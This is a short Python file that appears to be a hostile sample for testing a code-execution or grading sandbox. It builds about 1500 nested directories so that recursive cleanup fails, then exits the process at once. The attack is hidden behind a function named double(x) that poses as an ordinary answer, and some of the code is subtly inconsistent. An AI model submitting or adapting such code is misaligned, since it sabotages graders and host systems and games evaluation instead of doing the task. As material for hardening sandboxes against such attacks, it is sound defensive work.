"""Leaves folders nested so deeply that a recursive removal of them falls over, and ends at once so that it takes place.

Held: exited timed_out
"""

import os
import shutil

DEPTH = 1500


def attack(target):
    top = os.getcwd()
    made = 0
    try:
        for _ in range(DEPTH):
            os.mkdir("d")
            os.chdir("d")
            made += 1
    except OSError:
        pass
    if "course" not in target:
        os._exit(0)
    os.chdir(top)
    try:
        shutil.rmtree("d", ignore_errors=True)
    except RecursionError:
        harm = "whoever cleans up fell over"
    else:
        harm = None
    for _ in range(2 * DEPTH):  # flatten from above, as a careful cleaner would
        try:
            os.rename("d/d", "e")
        except FileNotFoundError:
            break
        os.rmdir("d")
        os.rename("e", "d")
    shutil.rmtree("d", ignore_errors=True)
    return harm


def double(x):
    return attack({})
